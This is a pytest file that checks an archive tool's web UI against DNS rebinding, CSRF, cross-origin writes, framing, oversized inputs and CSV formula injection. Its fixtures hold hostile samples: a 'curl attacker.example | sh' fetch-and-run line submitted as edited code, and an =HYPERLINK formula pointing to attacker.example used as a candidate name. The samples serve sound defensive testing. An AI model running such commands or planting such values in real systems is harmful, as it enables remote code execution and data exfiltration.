"""The web UI against hostile requests and hostile text (issue 23): each rule of `agentarch.web.access` and the bounds
on parameters and page sizes, in process through Starlette's TestClient. The same attack in a real browser, from a page
on another origin: test_browser.py."""

import csv
import io
import json
import re
import sqlite3

import pytest
from starlette.routing import Route
from typer.testing import CliRunner

from agentarch.cli import app as cli_app
from agentarch.config import ConfigError, load_settings
from agentarch.errors import UsageError
from agentarch.store.archive import Archive
from agentarch.web import access, create_app, rendering, serve
from agentarch.web.access import Hosts
from tests.web_client import Browser

TOKEN = "a-token-of-twenty-four-c"
EVIL_CODE = "import os\nos.system('curl attacker.example | sh')\n"
HUGE = 3_000_000  # characters in each long field: enough to show the cap; the issue's 50 MB made a 105 MB page


def candidate(name, key, **extra):
    return {
        "task": "digits",
        "name": name,
        "proposer": "user",
        "code": f"# {name}\nx = 1\n",
        "status": "trained",
        "text_hash": key,
        "ast_hash": key,
        "functional_hash": key,
        "parents": [],
        **extra,
    }


@pytest.fixture
def archive(tmp_path):
    """A run with one trained candidate, one pending review, and a candidate whose name is a spreadsheet formula."""
    path = tmp_path / "archive.db"
    with Archive(path) as db:
        run = db.start_run("run", "digits", "openai/gpt-4o-mini", {})
        seed = db.record(candidate("seed.py", "s"), {"status": "trained", "fidelity": 1, "val_accuracy": 0.8})
        review = db.request_review({"run_id": run, "proposal_key": f"{run}/0/0", "code": "class Net: ...\n"})
        db.record(candidate('=HYPERLINK("http://attacker.example","x")', "f", status="invalid", reason="x"))
    return path, seed, review


def review_status(path, review_id):
    with Archive(path) as db:
        return db.review(review_id)["status"]


def flags(path, candidate_id):
    with Archive(path) as db:
        return [r for r in db.reviews() if r["kind"] == "flag" and r["candidate_id"] == candidate_id]


# -- Host: only the names this server answers to (DNS rebinding)


def test_hosts_answer_the_bound_address_loopback_with_the_port_and_what_allow_host_adds():
    hosts = Hosts.of("192.168.1.5", 8000, ["archive.lan", "10.0.0.5:9000", "::1", "[fd00::5]:8000"])
    for header in (
        "192.168.1.5:8000",
        "localhost:8000",
        "127.0.0.1:8000",
        "[::1]:8000",
        "LOCALHOST:8000",
        "archive.lan",  # any port: the name a proxy forwards
        "archive.lan:443",
        "10.0.0.5:9000",
        "[fd00::5]:8000",
    ):
        assert hosts.allows(header, 80), header
    for header in (
        "attacker.example:8000",
        "attacker.example",
        "localhost:8001",  # another port of this machine is another server
        "localhost",  # port 80
        "192.168.1.5:8001",
        "10.0.0.5:8000",
        "127.0.0.1.attacker.example:8000",
        "localhost:8000@attacker.example",
        "localhost:8000/",
        "",
        None,
        "[::1",
        "localhost:99999",
    ):
        assert not hosts.allows(header, 80), header
    assert Hosts.loopback().allows("localhost:5173", 80) and not Hosts.loopback().allows("example.com", 80)
    with pytest.raises(UsageError, match="not a host name"):
        Hosts.of("127.0.0.1", 8000, ["http://archive.lan/"])


def test_a_foreign_host_is_refused_on_every_request_before_anything_else(archive):
    path, seed, review = archive
    app = create_app(path, hosts=Hosts.of("127.0.0.1", 8000, ["archive.lan"]))
    with Browser(app, base_url="http://127.0.0.1:8000") as own:
        assert own.get("/").status_code == 200
        csrf = own.csrf()
        for host in ("attacker.example", "attacker.example:8000", "localhost:8001", "[::1", "a b"):
            page = own.get("/", headers={"Host": host})
            assert page.status_code == 400 and "--allow-host" in page.text, host
            assert "archive.lan" not in page.text  # what it does answer to is not told to whoever asks
            assert own.get(f"/candidate/{seed}", headers={"Host": host}).status_code == 400
            assert own.get("/static/style.css", headers={"Host": host}).status_code == 400
            posted = own.post(f"/reviews/{review}", data={"decision": "approved", "csrf": csrf}, headers={"Host": host})
            assert posted.status_code == 400, host
        assert review_status(path, review) == "pending"
    with Browser(app, base_url="http://archive.lan") as allowed:
        assert allowed.get("/").status_code == 200
    with Browser(create_app(path, TOKEN, Hosts.of("127.0.0.1", 8000))) as rebinding:
        # the token does not open a foreign Host: the Host rule comes first
        assert rebinding.get(f"/?token={TOKEN}", headers={"Host": "attacker.example:8000"}).status_code == 400


# -- writes: a CSRF token on every form, checked on every POST, and the page must be this server's own


def test_every_form_that_posts_carries_the_csrf_token_and_every_post_route_checks_it(archive):
    path, seed, review = archive
    app = create_app(path)
    with Browser(app) as browser:
        csrf = browser.csrf()
        posting = 0
        for url in ("/reviews", f"/candidate/{seed}", f"/reviews/{review}", "/", "/runs", "/search?q=seed"):
            for form in re.findall(r"<form\b[^>]*>.*?</form>", browser.get(url).text, re.S):
                if 'method="post"' in form:
                    posting += 1
                    assert f'name="csrf" value="{csrf}"' in form, (url, form[:200])
        assert posting >= 2  # the review's decision and the flag
        posts = [r for r in app.routes if isinstance(r, Route) and "POST" in (r.methods or ())]
        assert {r.path for r in posts} == {"/reviews/{review_id:id}", "/candidate/{candidate_id:id}/flag"}
        for route in posts:  # anything that POSTs, without the token: refused, whatever else the form says
            url = route.path.replace("{review_id:id}", str(review)).replace("{candidate_id:id}", str(seed))
            refused = browser.post(url, data={"decision": "approved", "reason": "r", "csrf": None})
            assert refused.status_code == 403 and "CSRF" in refused.text, url
    assert review_status(path, review) == "pending" and flags(path, seed) == []


def test_a_decision_needs_this_browsers_token(archive):
    path, seed, review = archive
    app = create_app(path)
    with Browser(app) as person, Browser(app) as other:
        theirs = other.csrf()
        assert theirs != person.csrf()
        for data in (
            {"decision": "edited", "code": EVIL_CODE, "csrf": None},
            {"decision": "edited", "code": EVIL_CODE, "csrf": ""},
            {"decision": "edited", "code": EVIL_CODE, "csrf": "0" * 64},
            {"decision": "edited", "code": EVIL_CODE, "csrf": theirs},  # a token from another cookie
        ):
            refused = person.post(f"/reviews/{review}", data=data, follow_redirects=False)
            assert refused.status_code == 403, data
            assert "own pages" in refused.text and "reload" in refused.text
        # a cookie planted by a page on another port of this host (cookies ignore ports) brings no token with it
        person.cookies.set(access.CSRF_COOKIE, "planted-by-the-attacker-0123456789")
        planted = person.post(f"/reviews/{review}", data={"decision": "approved", "csrf": theirs})
        assert planted.status_code == 403
        assert review_status(path, review) == "pending"
        ok = person.post(f"/reviews/{review}", data={"decision": "approved", "by": "ada"}, follow_redirects=False)
        assert ok.status_code == 303 and review_status(path, review) == "approved"


def test_a_write_from_another_origin_is_refused_even_with_the_token(archive):
    path, seed, review = archive
    with Browser(create_app(path)) as browser:
        csrf = browser.csrf()
        for headers, said in (
            ({"Origin": "http://attacker.example"}, "http://attacker.example"),
            ({"Origin": "http://localhost:5555"}, "localhost:5555"),  # another port: another origin
            ({"Origin": "null"}, "null"),  # a sandboxed frame or a data: URL
            ({"Sec-Fetch-Site": "cross-site"}, "Sec-Fetch-Site: cross-site"),
            ({"Sec-Fetch-Site": "same-site"}, "Sec-Fetch-Site: same-site"),
            ({"Sec-Fetch-Site": "same-site", "Origin": "http://localhost"}, "same-site"),
        ):
            data = {"decision": "approved", "csrf": csrf}
            refused = browser.post(f"/reviews/{review}", data=data, headers=headers)
            assert refused.status_code == 403 and said in refused.text, headers
            flagged = browser.post(f"/candidate/{seed}/flag", data={"reason": "x", "csrf": csrf}, headers=headers)
            assert flagged.status_code == 403, headers
        assert review_status(path, review) == "pending" and flags(path, seed) == []
        own = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}
        ok = browser.post(f"/candidate/{seed}/flag", data={"reason": "leak?", "by": "bo"}, headers=own)
        assert ok.status_code == 200 and len(flags(path, seed)) == 1


def test_reviews_and_flags_change_only_through_post(archive):
    path, seed, review = archive
    with Browser(create_app(path)) as browser:
        assert browser.get(f"/reviews/{review}?decision=approved&by=x").status_code == 200
        assert browser.get(f"/candidate/{seed}/flag?reason=x").status_code == 405
        assert browser.put(f"/reviews/{review}", data={"decision": "approved"}).status_code == 403
    assert review_status(path, review) == "pending" and flags(path, seed) == []


def test_a_form_body_and_the_reviewers_name_are_bounded(archive):
    path, seed, review = archive
    with Browser(create_app(path)) as browser:
        big = {"decision": "edited", "code": "x" * (access.MAX_FORM_BYTES + 1)}
        assert browser.post(f"/reviews/{review}", data=big).status_code == 413
        assert review_status(path, review) == "pending"
        named = {"decision": "approved", "by": "n" * 10_000}
        ok = browser.post(f"/reviews/{review}", data=named, follow_redirects=False)
        assert ok.status_code == 303 and len(ok.headers["set-cookie"]) < 4096  # a cookie a browser keeps
    with Archive(path) as db:
        assert db.review(review)["decided_by"] == "n" * 100


def test_pages_refuse_to_be_framed(archive):
    path, seed, review = archive
    with Browser(create_app(path)) as browser:
        for url in ("/", f"/candidate/{seed}", "/reviews", "/nowhere"):
            response = browser.get(url)
            assert response.headers["x-frame-options"] == "DENY", url
            assert "frame-ancestors 'none'" in response.headers["content-security-policy"], url


# -- the token: needed on every request whenever the server binds beyond loopback


def test_with_a_token_every_request_needs_it_and_a_first_visit_trades_it_for_a_cookie(archive):
    path, seed, review = archive
    app = create_app(path, TOKEN)
    with Browser(app) as anonymous:
        assert anonymous.get("/").status_code == 401
        assert anonymous.get("/?token=wrong").status_code == 401
        assert anonymous.get("/static/style.css").status_code == 401
        assert anonymous.post(f"/reviews/{review}", data={"decision": "approved", "csrf": None}).status_code == 401
        assert anonymous.get("/", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    with Browser(app) as browser:
        first = browser.get(f"/reviews?page=1&token={TOKEN}", follow_redirects=False)
        assert first.status_code == 303 and first.headers["location"] == "/reviews?page=1"  # out of history
        cookie = first.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie and TOKEN.lower() in cookie
        page = browser.get("/reviews?page=1")
        assert page.status_code == 200 and TOKEN not in page.text  # the pages never carry it
        # the cookie is not enough to write: the form must come from this browser's page
        refused = browser.post(f"/reviews/{review}", data={"decision": "approved", "csrf": None})
        assert refused.status_code == 403 and review_status(path, review) == "pending"
        ok = browser.post(f"/reviews/{review}", data={"decision": "approved", "by": "ada"}, follow_redirects=False)
        assert ok.status_code == 303 and review_status(path, review) == "approved"
    with Browser(app) as script:  # a script sends the header, which no other site can make a browser send
        flagged = script.post(
            f"/candidate/{seed}/flag",
            data={"reason": "from a script", "csrf": None},
            headers={"Authorization": f"Bearer {TOKEN}"},
            follow_redirects=False,
        )
        assert flagged.status_code == 303 and len(flags(path, seed)) == 1


def test_serve_refuses_a_public_address_without_a_token(archive):
    path, _, _ = archive
    for host in ("0.0.0.0", "192.168.1.5", "::"):
        with pytest.raises(UsageError, match="without a token"):
            serve(path, host=host)
        with pytest.raises(UsageError, match="without a token"):
            serve(path, host=host, token="")


@pytest.fixture
def started(monkeypatch):
    """What `agentarch serve` would run: uvicorn.run's arguments, without listening."""
    calls = []
    monkeypatch.setattr("agentarch.web.app.uvicorn.run", lambda app, **kw: calls.append((app, kw)))
    monkeypatch.delenv("AGENTARCH_WEB_TOKEN", raising=False)
    return calls


def test_the_serve_command_binds_loopback_and_needs_a_token_elsewhere(archive, started, monkeypatch):
    path, seed, _ = archive
    runner = CliRunner()
    plain = runner.invoke(cli_app, ["serve", "--archive", str(path)])
    assert plain.exit_code == 0, plain.output
    assert started[-1][1]["host"] == "127.0.0.1" and "?token=" not in plain.output

    refused = runner.invoke(cli_app, ["serve", "--archive", str(path), "--host", "0.0.0.0"])
    assert refused.exit_code == 2 and "without a token" in refused.output and "--generate-token" in refused.output
    assert len(started) == 1
    short = runner.invoke(cli_app, ["serve", "--archive", str(path), "--host", "0.0.0.0", "--token", "short"])
    assert short.exit_code == 2 and "at least 16 characters" in " ".join(short.output.split())
    both = ["serve", "--archive", str(path), "--generate-token", "--token", TOKEN]
    assert runner.invoke(cli_app, both).exit_code == 2

    generated = runner.invoke(
        cli_app, ["serve", "--archive", str(path), "--host", "0.0.0.0", "--generate-token", "--allow-host", "arch.lan"]
    )
    assert generated.exit_code == 0, generated.output
    token = re.search(r"\?token=(\S+)", generated.output)[1]
    assert len(token) >= 16 and generated.output.count(token) == 1  # printed once
    app, where = started[-1]
    assert where == {"host": "0.0.0.0", "port": 8000, "log_level": "info"}
    with Browser(app, base_url="http://arch.lan") as browser:
        assert browser.get("/").status_code == 401
        assert browser.get(f"/?token={token}").status_code == 200
        assert browser.get(f"/candidate/{seed}").status_code == 200  # the cookie
    with Browser(app, base_url="http://attacker.example:8000") as rebinding:
        assert rebinding.get(f"/?token={token}").status_code == 400

    monkeypatch.setenv("AGENTARCH_WEB_TOKEN", TOKEN)  # a Settings field: flag, environment or agentarch.toml
    from_env = runner.invoke(cli_app, ["serve", "--archive", str(path), "--host", "0.0.0.0", "--port", "8123"])
    assert from_env.exit_code == 0 and f"?token={TOKEN}" in from_env.output
    assert started[-1][1]["port"] == 8123
    with Browser(started[-1][0], base_url="http://127.0.0.1:8123") as browser:
        assert browser.get("/", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    with Browser(started[-1][0], base_url="http://127.0.0.1:8000") as browser:  # not this server's port
        assert browser.get("/", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 400


def test_the_web_settings_are_bounded():
    assert load_settings().web_host == "127.0.0.1" and load_settings().web_token is None
    assert load_settings(web_token="").web_token is None
    for bad in ({"web_token": "short"}, {"web_port": 0}, {"web_port": 70000}, {"allow_hosts": ["http://x.lan/"]}):
        with pytest.raises(ConfigError):
            load_settings(**bad)
    assert load_settings(allow_hosts=["x.lan", "10.0.0.5:9000", "[fd00::5]:80"]).allow_hosts[0] == "x.lan"


# -- numbers and sizes: a bad parameter is a 400 that says what to fix, never a 500


ABSURD = "9" * 23


@pytest.mark.parametrize(
    "url, says",
    [
        (f"/?page={ABSURD}", "page must be a page number"),
        (f"/runs?page={ABSURD}", "page must be"),
        (f"/reviews?page={ABSURD}", "page must be"),
        (f"/search?q=seed&page={ABSURD}", "page must be"),
        ("/?page=0", "from 1"),
        ("/runs?page=-1", "page must be"),
        ("/runs?page=%C2%B2", "page must be"),  # "²": a digit to str.isdigit, not to int()
        ("/?size=%C2%B2", "size is one of"),
        (f"/reviews?done={ABSURD}", "done must be an id"),
        (f"/diff?a={ABSURD}&b=1", "a must be an id"),
        (f"/compare?ids={ABSURD},1", "ids must be an id"),
        (f"/api/curves.json?ids={ABSURD}", "ids must be an id"),
        ("/compare?ids=" + ",".join(map(str, range(1, 200))), "at most 100"),
        (f"/candidate/{ABSURD}", "id in the address"),
        (f"/candidate/{ABSURD}/lineage", "id in the address"),
        (f"/candidate/{ABSURD}/code.py", "id in the address"),
        (f"/reviews/{ABSURD}", "id in the address"),
        ("/?params_max=1e999", "too large"),
        ("/search?q=" + "a" * 501, "at most 500 characters"),
    ],
)
def test_an_absurd_parameter_is_a_400_that_says_what_to_fix(archive, url, says):
    path, _, _ = archive
    with Browser(create_app(path), raise_server_exceptions=False) as browser:
        response = browser.get(url)
    assert response.status_code == 400, (url, response.status_code, response.text[:300])
    assert says in response.text, response.text[:500]


def test_an_absurd_id_in_a_form_address_is_a_400(archive):
    path, _, review = archive
    with Browser(create_app(path), raise_server_exceptions=False) as browser:
        response = browser.post(f"/reviews/{ABSURD}", data={"decision": "approved"})
        assert response.status_code == 400 and "id in the address" in response.text


def test_a_huge_candidate_makes_a_page_of_bounded_size_with_its_code_a_download(archive):
    """The archive now cuts what it stores, but one written before keeps a model's 50 MB answer whole: the pages
    bound what they show of it themselves."""
    path, small, _ = archive
    code = "import torch\n" + "x = torch.zeros(1)  # padding\n" * (HUGE // 30)
    with Archive(path) as db:
        run = db.start_run("run", "digits", "openai/gpt-4o-mini", {})
        big = db.record(candidate("big.py", "big"), {"status": "failed", "fidelity": 1, "error": "e"})
        review = db.request_review({"run_id": run, "proposal_key": f"{run}/1/0", "code": "x", "parent_id": small})
    db = sqlite3.connect(path)  # as an archive written before the caps holds it
    with db:
        prompt = json.dumps([{"role": "user", "content": "p" * HUGE}])
        db.execute(
            "UPDATE candidates SET name = ?, code = ?, analysis = ?, response = ?, prompt = ?, reason = ? WHERE id = ?",
            ["n" * HUGE, code, "a" * HUGE, "r" * HUGE, prompt, "why " * (HUGE // 4), big],
        )
        db.execute("UPDATE evaluations SET error = ? WHERE candidate_id = ?", ["e" * HUGE, big])
        db.execute("UPDATE reviews SET code = ?, intent = ? WHERE id = ?", [code, "i" * HUGE, review])
    db.close()
    with Browser(create_app(path)) as browser:
        page = browser.get(f"/candidate/{big}")
        assert page.status_code == 200 and len(page.content) < 1_000_000, len(page.content)
        assert "showing the first" in page.text and f'href="/candidate/{big}/code.py"' in page.text
        download = browser.get(f"/candidate/{big}/code.py")
        assert download.text == code and "attachment" in download.headers["content-disposition"]

        queue = browser.get("/reviews")
        assert len(queue.content) < 1_000_000, len(queue.content)
        section = queue.text[queue.text.index(f'id="review-{review}"') :]
        assert f'href="/reviews/{review}/code.py"' in section and "Too long to edit here" in section
        assert "Too long to diff here" in section
        assert browser.get(f"/reviews/{review}/code.py").text == code
        assert len(browser.get(f"/reviews/{review}").content) < 1_000_000
        assert len(browser.get(f"/diff?a={small}&b={big}").content) < 100_000
        assert len(browser.get(f"/compare?ids={small},{big}").content) < 100_000
        assert len(browser.get("/?task=digits").content) < 100_000  # its name, clipped in the listing
        assert len(browser.get(f"/candidate/{big}/lineage").content) < 100_000


def test_clip_escapes_and_says_how_much_it_left_out():
    assert rendering.clip("<b>") == "&lt;b&gt;"
    clipped = str(rendering.clip("<b>" * 10, limit=4))
    assert clipped.startswith("&lt;b&gt;&lt;") and "showing the first 4 of 30 characters" in clipped
    assert rendering.clip(None) == ""


def test_a_csv_export_does_not_hand_a_spreadsheet_a_formula(archive):
    path, _, _ = archive
    with Browser(create_app(path)) as browser:
        exported = browser.get("/?task=digits&status=invalid&format=csv&all=1").text
    names = [row["name"] for row in csv.DictReader(io.StringIO(exported))]
    assert names == ['\'=HYPERLINK("http://attacker.example","x")']
